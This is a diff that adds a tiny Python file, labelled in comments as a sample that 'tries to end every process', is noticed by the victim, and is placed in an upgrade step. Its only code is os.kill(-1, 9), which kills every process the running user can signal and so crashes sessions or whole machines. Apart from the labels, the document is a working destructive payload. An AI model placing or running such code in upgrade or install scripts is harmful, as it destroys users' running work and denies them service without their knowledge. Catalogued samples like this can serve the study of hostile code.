@@ -1,0 +1,5 @@
+# Tries: to end every process
+# Noticed by: victim
+# Place: upgrade
+import os
+os.kill(-1, 9)
